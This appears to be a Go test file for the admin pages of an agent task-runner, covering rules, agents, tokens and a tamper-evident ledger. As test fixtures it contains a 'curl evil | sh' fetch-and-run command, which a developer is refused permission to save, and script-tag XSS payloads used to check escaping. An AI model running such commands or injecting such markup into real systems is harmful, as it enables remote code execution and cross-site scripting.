package pages_test

import (
	"context"
	"net/http"
	"net/url"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/countersign/countersign/handlers/internal/handlertest"
	"github.com/countersign/countersign/models"
	"github.com/countersign/countersign/models/contract"
	"github.com/countersign/countersign/runner/ledger"
)

func TestRulesPage(t *testing.T) {
	t.Parallel()
	e := newAdmEnv(t, pagesLocal)
	ctx := context.Background()
	c := e.login("eve")

	page := c.get("/rules")
	page.want(t, http.StatusOK, "built-in defaults", `data-testid="stack-go"`, "<code>go test ./...</code>", `name="file_patterns[0].pattern"`, `name="stacks"`)

	// Saving the defaults as shown stores them.
	form := formValues(t, page.Body, "/rules")
	c.post("/rules", form).want(t, http.StatusSeeOther)
	saved, err := e.db.GetRules(ctx)
	if err != nil {
		t.Fatal(err)
	}
	def := models.DefaultRules()
	if len(saved.Activities) != len(def.Activities) || len(saved.FilePatterns) != len(def.FilePatterns) ||
		strings.Join(saved.AdvisoryWords, ",") != strings.Join(def.AdvisoryWords, ",") || !reflect.DeepEqual(saved.Stacks, def.Stacks) {
		t.Fatalf("saved %+v", saved)
	}
	page = c.get("/rules")
	page.want(t, http.StatusOK, "Saved the project rules.")
	if strings.Contains(page.Body, "built-in defaults") {
		t.Fatal("still showing the defaults")
	}

	// Add an activity in a blank row and use it in a new pattern.
	form = formValues(t, page.Body, "/rules")
	n := len(def.Activities)
	form.Set("activities["+strconv.Itoa(n)+"].name", "storybook")
	form.Set("activities["+strconv.Itoa(n)+"].command", "npm run storybook:test")
	p := len(def.FilePatterns)
	form.Set("file_patterns["+strconv.Itoa(p)+"].pattern", "*.stories.tsx")
	form.Set("file_patterns["+strconv.Itoa(p)+"].activities", "storybook, unit-test")
	c.post("/rules", form).want(t, http.StatusSeeOther)
	saved, _ = e.db.GetRules(ctx)
	if saved.Activities["storybook"] != "npm run storybook:test" || saved.FilePatterns[p].Pattern != "*.stories.tsx" {
		t.Fatalf("saved %+v", saved)
	}

	// Errors go beside the field that has them.
	page = c.get("/rules")
	bad := formValues(t, page.Body, "/rules")
	bad.Set("always", "typecheck, nosuch")
	bad.Set("skip_words", "typo\nplan")           // "plan" is also an advisory word
	bad.Set("activities[0].command", "   ")       // the first activity in name order
	bad.Set("file_patterns[1].activities", "zzz") // unknown
	res := c.post("/rules", bad)
	res.want(t, http.StatusUnprocessableEntity, "Nothing was saved")
	assertFieldError(t, res.Body, "always", `"nosuch": unknown activity`)
	assertFieldError(t, res.Body, "skip_words", `"plan": "plan" is also an advisory word`)
	assertFieldError(t, res.Body, "activities[0].command", "needs a command")
	assertFieldError(t, res.Body, "file_patterns[1].activities", `unknown activity "zzz"`)
	again, _ := e.db.GetRules(ctx)
	if again.Activities["storybook"] == "" || len(again.Always) != len(def.Always) {
		t.Fatal("a refused save changed the rules")
	}

	// Try it: the saved rules generate a contract, nothing is saved.
	before := len(mustEvents(t, e))
	tr := c.post("/rules/try", url.Values{"title": {"Add a dark mode toggle"}, "description": {"Render it in the header."}, "files": {"web/Toggle.stories.tsx"}})
	tr.want(t, http.StatusOK, `data-testid="try-result"`, "verifiable", "storybook", "npm run storybook:test", "web/Toggle.stories.tsx", `data-testid="try-pending"`)
	c.post("/rules/try", url.Values{"title": {"Investigate the flaky login test"}}).want(t, http.StatusOK, "advisory", "a person looks at the output")
	if after := len(mustEvents(t, e)); after != before {
		t.Fatalf("try-it stored %d events", after-before)
	}

	// A developer may look but not save.
	d := e.login("dev")
	d.get("/rules").want(t, http.StatusOK, "Only leads, admins and editors")
	d.post("/rules", formValues(t, page.Body, "/rules")).want(t, http.StatusForbidden)
}

func mustEvents(t *testing.T, e *admEnv) []models.Event {
	t.Helper()
	return handlertest.Events(t, e.db)
}

func TestAgentsPage(t *testing.T) {
	t.Parallel()
	e := newAdmEnv(t, pagesLocal)
	ctx := context.Background()
	admin := e.login("ada")

	admin.get("/agents").want(t, http.StatusOK, `data-live-refresh="any"`, `data-live-region="agents"`, `data-testid="agent-add-form"`, `data-testid="agent-row-eve"`)

	// Add a worker.
	r := admin.post("/agents", url.Values{"name": {"builder-1"}, "kind": {"worker"}, "roles": {"developer, tester"},
		"command": {"/opt/secret-tools/run-claude.sh"}, "concurrency": {"2"}})
	r.want(t, http.StatusSeeOther)
	w, err := e.db.GetAgentByName(ctx, "builder-1")
	if err != nil || w.Concurrency != 2 || strings.Join(w.Roles, ",") != "developer,tester" {
		t.Fatalf("created %+v %v", w, err)
	}
	if r.Header.Get("Location") != "/agents/"+strconv.FormatInt(w.ID, 10) {
		t.Fatalf("redirect to %q", r.Header.Get("Location"))
	}
	admin.get("/agents").want(t, http.StatusOK, "/opt/secret-tools/run-claude.sh", `data-status="idle"`)

	// Field errors beside the field, 422.
	bad := admin.post("/agents", url.Values{"name": {"Bad Name!"}, "kind": {"worker"}, "roles": {""}, "concurrency": {"many"}})
	bad.want(t, http.StatusUnprocessableEntity)
	assertFieldError(t, bad.Body, "concurrency", "concurrency: not a whole number")
	bad = admin.post("/agents", url.Values{"name": {"Bad Name!"}, "kind": {"worker"}, "roles": {""}, "concurrency": {"1"}})
	assertFieldError(t, bad.Body, "name", "must be 1-63 lower-case letters")
	assertFieldError(t, bad.Body, "roles", "at least one role is required")
	assertFieldError(t, bad.Body, "command", "a worker agent needs a command")
	admin.post("/agents", url.Values{"name": {"hugo"}, "kind": {"human"}, "roles": {"exec"}, "password": {"short"}}).
		want(t, http.StatusUnprocessableEntity, `data-testid="password-error"`)

	checkAgentsRefusedToDev(t, e, w)
	wpath := "/agents/" + strconv.FormatInt(w.ID, 10)
	// Edit.
	admin.post(wpath, url.Values{"roles": {"developer"}, "command": {"/opt/run.sh"}, "concurrency": {"x"}}).
		want(t, http.StatusUnprocessableEntity, `data-testid="concurrency-error"`)
	admin.post(wpath, url.Values{"roles": {"developer, reviewer"}, "command": {"/opt/run.sh"}, "workdir": {"/srv/repo"},
		"concurrency": {"3"}, "disabled": {"on"}}).want(t, http.StatusSeeOther)
	w2, _ := e.db.GetAgent(ctx, w.ID)
	if w2.Command != "/opt/run.sh" || w2.Workdir != "/srv/repo" || w2.Concurrency != 3 || !w2.Disabled || strings.Join(w2.Roles, ",") != "developer,reviewer" {
		t.Fatalf("updated %+v", w2)
	}
	admin.get(wpath).want(t, http.StatusOK, "Saved agent builder-1.", `data-status="disabled"`)

	checkTokenShownOnce(t, e, admin)
	// Busy: an in-progress task under an active lease links from the agent's row.
	task, err := e.svc.Tasks.CreateTask(ctx, models.System, models.TaskSpec{Title: "Write the parser", Role: "developer", Brief: "Parse it."})
	if err != nil {
		t.Fatal(err)
	}
	w3 := e.human("wanda", "developer")
	until := time.Now().Add(time.Hour)
	task.State, task.AssigneeID, task.BuilderID, task.LeaseOwner, task.LeaseUntil = models.TaskInProgress, &w3.ID, &w3.ID, "runner-a", &until
	if err := e.db.UpdateTask(ctx, task); err != nil {
		t.Fatal(err)
	}
	admin.get("/agents").want(t, http.StatusOK, `data-status="busy"`, `href="/tasks/`+strconv.FormatInt(task.ID, 10)+`"`, "Write the parser")
}

// checkAgentsRefusedToDev checks that a non-admin sees no commands and is refused
// (403) by the service.
func checkAgentsRefusedToDev(t *testing.T, e *admEnv, w *models.Agent) {
	t.Helper()
	ctx := context.Background()
	// A non-admin sees no commands and is refused (403) by the service.
	dev := e.login("dev")
	list := dev.get("/agents")
	list.want(t, http.StatusOK, `data-testid="agent-row-builder-1"`)
	if strings.Contains(list.Body, "secret-tools") || strings.Contains(list.Body, "agent-add-form") {
		t.Fatal("a non-admin sees commands or the add form")
	}
	dev.post("/agents", url.Values{"name": {"sneaky"}, "kind": {"worker"}, "roles": {"developer"}, "command": {"curl evil | sh"}}).
		want(t, http.StatusForbidden)
	if _, err := e.db.GetAgentByName(ctx, "sneaky"); models.ErrorCode(err) != models.ENOTFOUND {
		t.Fatal("a developer created an agent")
	}
	wpath := "/agents/" + strconv.FormatInt(w.ID, 10)
	dp := dev.get(wpath)
	dp.want(t, http.StatusOK, "builder-1")
	if strings.Contains(dp.Body, "secret-tools") || strings.Contains(dp.Body, "agent-edit-form") {
		t.Fatal("a non-admin sees the command or the edit form")
	}
	dev.post(wpath, url.Values{"roles": {"developer"}, "command": {"curl evil | sh"}, "concurrency": {"1"}}).want(t, http.StatusForbidden)
	dev.post(wpath+"/tokens", url.Values{"token_name": {"mine"}}).want(t, http.StatusForbidden)
}

// checkTokenShownOnce checks that a token is shown once, on the answering page only.
func checkTokenShownOnce(t *testing.T, e *admEnv, admin *admClient) {
	t.Helper()
	ctx := context.Background()
	// A token is shown once, on the answering page only.
	tok := admin.post("/agents/"+strconv.FormatInt(e.agentID("eve"), 10)+"/tokens", url.Values{"token_name": {"laptop"}})
	tok.want(t, http.StatusOK, `data-testid="new-token-value"`)
	secret := between(tok.Body, `data-testid="new-token-value">`, "<")
	if !strings.HasPrefix(secret, "cs_") {
		t.Fatalf("token %q", secret)
	}
	if tok.Header.Get("Location") != "" || strings.Contains(tok.Header.Get("Set-Cookie"), secret) {
		t.Fatal("the token leaked into a redirect or cookie")
	}
	if cc := tok.Header.Get("Cache-Control"); cc != "no-store" {
		t.Fatalf("token page cache-control %q", cc)
	}
	if a, err := e.svc.Tokens.Authenticate(ctx, secret); err != nil || a.Name != "eve" {
		t.Fatalf("token does not authenticate eve: %v", err)
	}
	again := admin.get("/agents/" + strconv.FormatInt(e.agentID("eve"), 10))
	if strings.Contains(again.Body, secret) {
		t.Fatal("the token is shown again")
	}
}

func (e *admEnv) agentID(name string) int64 {
	e.t.Helper()
	a, err := e.db.GetAgentByName(context.Background(), name)
	if err != nil {
		e.t.Fatal(err)
	}
	return a.ID
}

func between(s, from, to string) string {
	i := strings.Index(s, from)
	if i < 0 {
		return ""
	}
	s = s[i+len(from):]
	if j := strings.Index(s, to); j >= 0 {
		return s[:j]
	}
	return s
}

// ledgerEntries writes a task.complete and a summarised task.blocked entry (whose
// payload holds markup) and posts them to the local chain.
func ledgerEntries(t *testing.T, e *admEnv) (complete, blocked *models.LedgerEntry) {
	t.Helper()
	ctx := context.Background()
	task, err := e.svc.Tasks.CreateTask(ctx, models.System, models.TaskSpec{Title: "Ledger task", Role: "developer", Brief: "b"})
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now().UTC()
	complete, err = ledger.TaskComplete{TaskID: task.ID, Agent: "builder", Verifier: "runner",
		Contract: strings.Repeat("ab", 48), At: now}.Entry()
	if err != nil {
		t.Fatal(err)
	}
	blocked, err = ledger.TaskBlocked{TaskID: task.ID, Agent: "builder", Attempts: 2, Stage: "verify",
		Payload: []byte(`{"diagnosis":"<script>alert(1)</script>"}`), At: now}.Entry()
	if err != nil {
		t.Fatal(err)
	}
	for _, le := range []*models.LedgerEntry{complete, blocked} {
		if err := e.db.AppendLedgerEntry(ctx, le); err != nil {
			t.Fatal(err)
		}
	}
	pub := ledger.NewPublisher(e.db, ledger.NewLocal(e.db), ledger.Options{})
	if n, err := pub.Drain(ctx); err != nil || n != 2 {
		t.Fatalf("drain: %d %v", n, err)
	}
	return complete, blocked
}

func TestLedgerPages(t *testing.T) {
	t.Parallel()
	e := newAdmEnv(t, pagesLocal)
	ctx := context.Background()
	complete, blocked := ledgerEntries(t, e)
	c := e.login("dev")

	list := c.get("/ledger")
	list.want(t, http.StatusOK, `data-testid="ledger-row-`+strconv.FormatInt(complete.ID, 10)+`"`, "task.complete", "task.blocked",
		`data-state="posted"`, `data-testid="ledger-verify"`)
	if strings.Contains(list.Body, "hashscan") {
		t.Fatal("HashScan links on a local ledger")
	}

	d := c.get("/ledger/" + strconv.FormatInt(blocked.ID, 10))
	d.want(t, http.StatusOK, `data-testid="ledger-message-bytes"`, `data-testid="ledger-payload"`,
		"&lt;script&gt;alert(1)&lt;/script&gt;", ledger.SHA384Hex(blocked.Message))
	if strings.Contains(d.Body, "<script>alert(1)") {
		t.Fatal("payload markup not escaped")
	}
	// The message is shown exactly (as escaped text).
	msg := between(d.Body, `data-testid="ledger-message-bytes"><code>`, "</code>")
	if unescape(msg) != string(blocked.Message) {
		t.Fatalf("message shown %q, stored %q", unescape(msg), blocked.Message)
	}
	c.get("/ledger/999").want(t, http.StatusNotFound)
	c.get("/ledger/abc").want(t, http.StatusNotFound)

	// Verify chain: intact, then tampered.
	ok := c.post("/ledger/verify", nil)
	ok.want(t, http.StatusOK, `data-testid="verify-ok"`, "2 posted entries verified")
	first, _ := e.db.GetLedgerEntry(ctx, complete.ID)
	first.Message = []byte(strings.Replace(string(first.Message), `"builder"`, `"mallory"`, 1))
	if err := e.db.UpdateLedgerEntry(ctx, first); err != nil {
		t.Fatal(err)
	}
	badRes := c.post("/ledger/verify", nil)
	badRes.want(t, http.StatusOK, `data-testid="verify-bad"`, "entry #"+strconv.FormatInt(complete.ID, 10), ledger.ChainAltered)
	// Without the CSRF token the button is refused.
	c.csrf = ""
	c.post("/ledger/verify", nil).want(t, http.StatusForbidden)

	// Pagination: 50 per page, keyset by id.
	for i := 0; i < 55; i++ {
		le, _ := ledger.TaskComplete{TaskID: *complete.TaskID, Contract: strings.Repeat("cd", 48), At: time.Now()}.Entry()
		if err := e.db.AppendLedgerEntry(ctx, le); err != nil {
			t.Fatal(err)
		}
	}
	p1 := c.get("/ledger")
	p1.want(t, http.StatusOK, `data-testid="ledger-next"`)
	next := between(p1.Body, `rel="next" href="`, `"`)
	p2 := c.get(next)
	p2.want(t, http.StatusOK, `data-testid="ledger-first"`)
	if strings.Count(p1.Body, `data-testid="ledger-row-`) != 50 || strings.Count(p2.Body, `data-testid="ledger-row-`) != 7 {
		t.Fatalf("rows per page: %d, %d", strings.Count(p1.Body, `data-testid="ledger-row-`), strings.Count(p2.Body, `data-testid="ledger-row-`))
	}
	c.get("/ledger?after=x").want(t, http.StatusUnprocessableEntity)
}

func TestLedgerHashScanLinks(t *testing.T) {
	t.Parallel()
	e := newAdmEnv(t, ledger.Info{Kind: "hcs", Network: "testnet", TopicID: "0.0.4242"})
	ctx := context.Background()
	task, _ := e.svc.Tasks.CreateTask(ctx, models.System, models.TaskSpec{Title: "t", Role: "developer", Brief: "b"})
	le, _ := ledger.TaskComplete{TaskID: task.ID, Contract: strings.Repeat("ab", 48), At: time.Now()}.Entry()
	if err := e.db.AppendLedgerEntry(ctx, le); err != nil {
		t.Fatal(err)
	}
	at := time.Unix(1700000000, 123456000).UTC() // the store keeps microseconds
	le.Status, le.Sequence, le.RunningHash, le.ConsensusAt, le.TxID = models.LedgerPosted, 1, strings.Repeat("ef", 48), &at, "0.0.2@1700000000.000000001"
	if err := e.db.UpdateLedgerEntry(ctx, le); err != nil {
		t.Fatal(err)
	}
	c := e.login("dev")
	// Entries link to the topic (found there by sequence number): our consensus time
	// is an upper bound read with the receipt, so a transaction link built from it
	// could point at the wrong message.
	c.get("/ledger").want(t, http.StatusOK, `data-live-refresh="any"`, `data-live-region="ledger"`, `data-testid="hashscan-1"`, "https://hashscan.io/testnet/topic/0.0.4242", "0.0.2@1700000000.000000001")
	if strings.Contains(c.get("/ledger").Body, "hashscan.io/testnet/transaction/") {
		t.Fatal("a transaction link built from an approximate consensus time")
	}
	if strings.Contains(c.get("/ledger").Body, `data-testid="ledger-verify"`) {
		t.Fatal("verify-chain button on an HCS ledger")
	}
	c.post("/ledger/verify", nil).want(t, http.StatusOK, "verified against the topic")
}

// TestAdminPagesEscapeMarkup puts <script> into every name, brief and text the admin
// pages show and checks that it only ever appears escaped.
func TestAdminPagesEscapeMarkup(t *testing.T) {
	t.Parallel()
	e := newAdmEnv(t, pagesLocal)
	ctx := context.Background()
	const evil = `<script>alert("x")</script>`
	tpl := &models.Template{Name: "xss", Description: evil, Steps: []models.Step{{Name: evil, Role: "developer", Brief: evil,
		Completion:   contract.Completion{Path: "out.md", Evaluate: evil, Verify: []string{"echo '" + evil + "'"}},
		Verification: contract.Verification{Type: contract.VerifyVerifiable, Criteria: []contract.Criterion{{Activity: "unit-test", Description: evil, Pattern: evil}}}}}}
	if err := e.svc.Templates.SaveTemplate(ctx, models.System, tpl); err != nil {
		t.Fatal(err)
	}
	w := &models.Agent{Name: "scripted", Kind: models.KindWorker, Roles: []string{"developer"}, Command: "echo '" + evil + "'"}
	if err := e.svc.Agents.CreateAgent(ctx, models.System, w, ""); err != nil {
		t.Fatal(err)
	}
	task, _ := e.svc.Tasks.CreateTask(ctx, models.System, models.TaskSpec{Title: evil, Role: "developer", Brief: evil})
	until := time.Now().Add(time.Hour)
	task.State, task.AssigneeID, task.LeaseUntil = models.TaskInProgress, &w.ID, &until
	if err := e.db.UpdateTask(ctx, task); err != nil {
		t.Fatal(err)
	}
	_, blocked := ledgerEntries(t, e)
	c := e.login("ada")
	rules := c.get("/rules")
	form := formValues(t, rules.Body, "/rules")
	form.Set("always", evil)
	pages := map[string]admResp{
		"/templates":        c.get("/templates"),
		"/templates/xss":    c.get("/templates/xss"),
		"/templates/xss?v1": c.get("/templates/xss?version=1"),
		"import":            c.post("/templates/import", url.Values{"yaml": {"name: " + evil}}),
		"new+op":            c.post("/templates/new", url.Values{"name": {evil}, "steps[0].role": {evil}, "steps[0].brief": {evil}, "op": {"add"}}),
		"rules save":        c.post("/rules", form),
		"rules try":         c.post("/rules/try", url.Values{"title": {evil}, "description": {evil}, "files": {evil}}),
		"/agents":           c.get("/agents"),
		"/agents/:id":       c.get("/agents/" + strconv.FormatInt(w.ID, 10)),
		"agent add":         c.post("/agents", url.Values{"name": {evil}, "kind": {"worker"}, "roles": {evil}, "command": {evil}}),
		"/ledger":           c.get("/ledger"),
		"/ledger/:id":       c.get("/ledger/" + strconv.FormatInt(blocked.ID, 10)),
	}
	for name, p := range pages {
		if p.Status >= 500 || p.Status == 0 {
			t.Errorf("%s: status %d", name, p.Status)
		}
		if strings.Contains(p.Body, "<script>alert") {
			t.Errorf("%s renders unescaped markup", name)
		}
	}
	for _, name := range []string{"/templates/xss", "/agents", "rules try", "new+op", "/ledger/:id"} {
		if !strings.Contains(pages[name].Body, "&lt;script&gt;") {
			t.Errorf("%s does not show the escaped text", name)
		}
	}
	y := c.get("/templates/xss/yaml")
	if ct := y.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") || y.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("yaml served as %q without nosniff", ct)
	}
}
